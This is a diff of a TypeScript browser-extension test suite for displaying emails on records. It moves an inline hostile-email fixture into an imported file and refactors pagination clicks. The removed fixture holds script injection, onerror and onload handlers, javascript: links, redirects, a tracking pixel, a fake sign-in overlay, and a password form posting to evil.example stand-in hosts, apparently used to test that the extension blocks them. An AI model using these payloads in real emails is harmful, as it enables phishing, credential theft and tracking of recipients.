@@ -7,29 +7,13 @@ import { startTown, type Town } from '../stand-ins/town.ts'
 import { buildExtension } from './harness/build.ts'
 import { launchBrowser, type TestBrowser } from './harness/launch.ts'
 import { until } from './harness/until.ts'
+import { hostile } from './hostile-mail.ts'
 import { goTo } from './workspace-kit.ts'
 
 const MIA = 'Mia Sato <mia.sato@arbor.example>'
 const KEN = 'Ken Mori <ken.mori@arbor.example>'
 const ANA = 'Ana Ruiz <ana.ruiz@arbor.example>'
 const ELENA = 'Elena Brandt <elena.brandt@haldenmarine.example>'
-
-/** Everything a mail can try; each leads to a host that nobody may ask. */
-const hostile = `<html><head><base href="https://base.evil.example/"><link rel="preconnect" href="https://hint.evil.example">
-<link rel="stylesheet" href="https://css.evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://refresh.evil.example/">
-<style>@import "https://import.evil.example/b.css"; body{background:url(https://ground.evil.example/c.png)}</style></head>
-<body onload="top.location='https://onload.evil.example/'"><p>Dear Mia, the quote is ready.</p>
-<script>top.location='https://script.evil.example/';parent.postMessage('ran','*')</script>
-<img src="https://pixel.evil.example/open.gif?m=1" width="1" height="1"><img src="x" onerror="parent.postMessage('ran','*')">
-<img src="https://photo.evil.example/a.png" srcset="https://set.evil.example/b.png 2x">
-<div style="position:fixed;inset:0;z-index:99999;background:#fff url(https://style.evil.example/d.png)">Sign in again</div>
-<svg><script>parent.postMessage('ran','*')</script><a xlink:href="javascript:parent.postMessage('ran','*')"><text>x</text></a></svg>
-<iframe src="https://frame.evil.example/"></iframe><object data="https://object.evil.example/"></object>
-<video autoplay poster="https://poster.evil.example/e.png" src="https://video.evil.example/f.mp4"></video>
-<form action="https://form.evil.example/"><p>Your password</p><input name="password"><button id="go">Go on</button></form>
-<p><a href="https://login.evil.example/account">https://bank.example/account</a> <a href="javascript:top.location='https://link.evil.example/'">here</a>
-<a href="https://top.evil.example/" target="_top">there</a></p>
-<blockquote>On Monday Mia wrote: please send the quote.</blockquote></body></html>`
 
 describe.each(['chromium', 'firefox'] as const)('mail on records, in %s', (kind) => {
   let town: Town
@@ -268,13 +252,15 @@ describe.each(['chromium', 'firefox'] as const)('mail on records, in %s', (kind)
     const all = () => person.call<{ total: number }>('GET', `/records/${elenaId}/emails`)
     await until(async () => (await all()).body.total > 101, 'all of them')
     await list()
-    const count = async () => (await mia.side.texts('email-row')).length
-    await until(async () => (await count()) >= 50, 'the first page')
-    await mia.side.click('more-emails')
-    await until(async () => (await count()) >= 100, 'the second page')
-    await mia.side.click('more-emails')
-    await mia.side.waitForNo('more-emails')
     const frame = await mia.side.frame()
+    const count = async () => (await mia.side.texts('email-row')).length
+    const more = () =>
+      frame.evaluate(() => document.querySelector<HTMLElement>('[data-testid=more-emails]')?.click())
+    await until(async () => (await count()) >= 50, 'the first page')
+    await more()
+    await until(async () => (await count()) >= 100, 'the second page')
+    await more()
+    await mia.side.waitForNo('more-emails')
     const scrollTo = (top: number) =>
       frame.evaluate((to) => document.querySelector('main')?.scrollTo(0, to), top)
     await until(async () => {
